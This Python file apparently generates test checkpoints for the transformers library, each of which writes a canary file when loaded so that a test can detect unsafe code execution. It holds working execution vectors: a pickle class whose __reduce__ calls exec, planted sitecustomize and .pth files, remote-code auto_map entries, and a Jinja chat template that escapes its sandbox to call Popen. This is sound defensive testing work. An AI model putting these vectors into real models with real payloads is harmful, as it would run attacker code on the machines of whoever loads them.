"""Checkpoints whose every Python file and pickle writes a canary when it runs.

A stack's interpreter runs this file: ``python canaries.py FOLDER CANARY``. It makes one folder per
model; ``DOORS`` says what each of them tries. The file CANARY gets a line per piece of code that ran.
"""

import json
import pickle
import shutil
import sys
from pathlib import Path

DOORS = {
    "generates": "custom_generate/generate.py beside a stock model",
    "maps": "auto_map in every config, for classes that transformers has, too",
    "processors": "auto_map in processor_config.json and in video_preprocessor_config.json",
    "lightglue": "a config that trusts the code of another folder by itself (4.57 to 5.2: LightGlue)",
    "kernels": "a config that names its own folder as a kernel of the hub",
    "shadows": "files that Python or a library may import or unpickle without a question",
    "pickled": "weights in a pickle that calls a function",
    "retriever": "an architecture that is no model and unpickles (4.48: RealmRetriever)",
    "vocabulary": "a tokenizer whose vocabulary is a pickle (4.48: TransfoXLTokenizer)",
    "template": "a chat template that leaves its sandbox",
}

PYTHON = """\
import transformers
with open({canary!r}, "a") as file:
    file.write({name!r} + " ran under " + transformers.__version__ + "\\n")
"""
GENERATE = """
def generate(model, *args, **kwargs):
    return type(model).generate(model, *args, **kwargs)
"""
CLASSES = """
from transformers import LlamaConfig as C, LlamaForCausalLM as M, LlamaModel as B
from transformers import PreTrainedTokenizerFast as T, CLIPImageProcessor as P


class OwnConfig(C):
    pass


class OwnModel(M):
    config_class = OwnConfig


class OwnTokenizer(T):
    pass


class OwnProcessor(P):
    pass
"""
PROCESSOR = """
from transformers import ProcessorMixin as P, CLIPImageProcessor as V


class OwnProcessor(P):
    attributes = []


class OwnVideoProcessor(V):
    pass
"""
DETECTOR = """
from transformers import SuperPointConfig as C


class OwnDetector(C):
    model_type = "own-detector"
"""
TRUSTED = ("generates", "maps", "processors", "lightglue")
"""Models that exist twice, once as ``NAME-trusted``."""
TEMPLATE = (
    "{{% for c in ''.__class__.__mro__[1].__subclasses__() %}}{{% if c.__name__ == 'Popen' %}}"
    "{{{{ c(['touch', '{canary}']) }}}}{{% endif %}}{{% endfor %}}{{{{ cycler.__init__.__globals__ }}}}"
)
SHADOWS = (
    "torch.py",
    "sitecustomize.py",
    "usercustomize.py",
    "conftest.py",
    "setup.py",
    "numpy/__init__.py",
)
PICKLES = (
    "rng_state.pth", "optimizer.pt", "scheduler.pt", "training_args.bin", "scaler.pt", "vocab.pkl",
    "index.pickle", "adapter_model.bin", "state.joblib",
)  # fmt: skip


class Evil:
    """An object whose pickle writes the canary."""

    def __init__(self, canary, name):
        self.code = PYTHON.format(canary=canary, name=name)

    def __reduce__(self):
        return exec, (self.code,)


def make(root, canary):
    """Make all checkpoints below ``root``."""
    import numpy as np
    import torch
    from transformers import LlamaConfig, LlamaForCausalLM  # noqa: TID251  a stack runs this

    torch.manual_seed(0)
    config = LlamaConfig(
        vocab_size=300, hidden_size=16, intermediate_size=32, num_hidden_layers=2,
        num_attention_heads=2, num_key_value_heads=2, bos_token_id=1, eos_token_id=None,
    )  # fmt: skip
    for name in DOORS:
        LlamaForCausalLM(config).save_pretrained(root / name)

    def code(folder, name, more=""):
        path = root / folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(PYTHON.format(canary=str(canary), name=f"{folder}/{name}") + more)

    def settings(folder, name, **values):
        path = root / folder / name
        before = json.loads(path.read_text()) if path.exists() else {}
        path.write_text(json.dumps(before | values))

    def evil(folder, name):
        return Evil(str(canary), f"{folder}/{name}")

    code("generates", "custom_generate/generate.py", GENERATE)
    # not for code that must not be asked for: the load would fail by it
    (root / "generates" / "custom_generate" / "requirements.txt").write_text("no-such-package==1\n")

    code("maps", "own.py", CLASSES)
    settings("maps", "config.json", auto_map={
        "AutoConfig": "own.OwnConfig", "AutoModelForCausalLM": "own.OwnModel",
    })  # fmt: skip
    write_tokenizer(root / "maps")
    settings(
        "maps", "tokenizer_config.json", auto_map={"AutoTokenizer": [None, "own.OwnTokenizer"]}
    )
    processor = {"image_processor_type": "CLIPImageProcessor", "size": {"shortest_edge": 8}}
    settings("maps", "preprocessor_config.json", **processor, auto_map={
        "AutoImageProcessor": "own.OwnProcessor", "AutoFeatureExtractor": "own.OwnProcessor",
        "AutoProcessor": "own.OwnProcessor",
    })  # fmt: skip

    code("processors", "own_processor.py", PROCESSOR)
    code("processors", "own_video.py", PROCESSOR)
    write_tokenizer(root / "processors")
    settings("processors", "processor_config.json", processor_class="OwnProcessor", auto_map={
        "AutoProcessor": "own_processor.OwnProcessor",
    })  # fmt: skip
    settings("processors", "video_preprocessor_config.json", video_processor_type="OwnVideoProcessor",
        auto_map={"AutoVideoProcessor": "own_video.OwnVideoProcessor"},
    )  # fmt: skip

    detector = root / "lightglue" / "detector"
    code("lightglue", "detector/own.py", DETECTOR)
    settings("lightglue", "detector/config.json", model_type="own-detector", auto_map={
        "AutoConfig": "own.OwnDetector",
    })  # fmt: skip
    (root / "lightglue" / "config.json").write_text(json.dumps({
        "model_type": "lightglue", "architectures": ["LightGlueForKeypointMatching"],
        "trust_remote_code": True, "descriptor_dim": 16, "num_hidden_layers": 1,
        "num_attention_heads": 2, "torch_dtype": "float32",
        "keypoint_detector_config": {"model_type": "own-detector", "_name_or_path": str(detector)},
    }))  # fmt: skip

    kernel = f"{root.name}/kernels"
    code("kernels", "__init__.py")
    code("kernels", "build/torch-universal/kernels/__init__.py")
    settings("kernels", "config.json", attn_implementation=kernel, experts_implementation=kernel,
        use_kernels=True, kernel_config={"RMSNorm": f"{kernel}:LlamaRMSNorm"},
    )  # fmt: skip

    for name in SHADOWS:
        code("shadows", name)
    (root / "shadows" / "x.pth").write_text(f"import os; os.close(os.open({str(canary)!r}, 65))\n")
    for name in PICKLES:
        torch.save({"a": evil("shadows", name)}, root / "shadows" / name)
    settings("shadows", "modules.json", x=[{"idx": 0, "path": "", "type": "torch.X"}])
    settings(
        "shadows", "config.json", custom_pipelines={"x": {"impl": "torch.X", "pt": ["AutoModel"]}}
    )
    write_tokenizer(root / "shadows")

    (root / "pickled" / "model.safetensors").unlink()
    torch.save({"a": evil("pickled", "pytorch_model.bin")}, root / "pickled" / "pytorch_model.bin")

    settings("retriever", "config.json", architectures=["RealmRetriever"])
    records = np.array([evil("retriever", "block_records.npy")], dtype=object)
    np.save(root / "retriever" / "block_records.npy", records, allow_pickle=True)

    settings("vocabulary", "tokenizer_config.json", tokenizer_class="TransfoXLTokenizer")
    (root / "vocabulary" / "vocab.pkl").write_bytes(pickle.dumps(evil("vocabulary", "vocab.pkl")))
    (root / "vocabulary" / "vocab.txt").write_text("a\nb\n")

    write_tokenizer(root / "template")
    template = TEMPLATE.format(canary=canary)
    settings("template", "tokenizer_config.json", chat_template=template)
    (root / "template" / "chat_template.jinja").write_text(template)
    for name in TRUSTED:
        folder = root / f"{name}-trusted"
        shutil.copytree(root / name, folder)
        for path in (*folder.rglob("*.py"), *folder.rglob("*.json")):
            path.write_text(path.read_text().replace(f"{name}/", f"{name}-trusted/"))
    (root / "generates-trusted" / "custom_generate" / "requirements.txt").unlink()


def write_tokenizer(folder):
    """Write a tokenizer of single bytes."""
    from tokenizers import Tokenizer, models, pre_tokenizers

    vocabulary = {
        character: i for i, character in enumerate(sorted(pre_tokenizers.ByteLevel.alphabet()))
    }
    tokenizer = Tokenizer(models.BPE(vocabulary, []))
    tokenizer.pre_tokenizer = pre_tokenizers.ByteLevel(add_prefix_space=False)
    tokenizer.save(str(folder / "tokenizer.json"))
    settings = {"tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": 64}
    (folder / "tokenizer_config.json").write_text(json.dumps(settings))


if __name__ == "__main__":
    make(Path(sys.argv[1]), Path(sys.argv[2]))
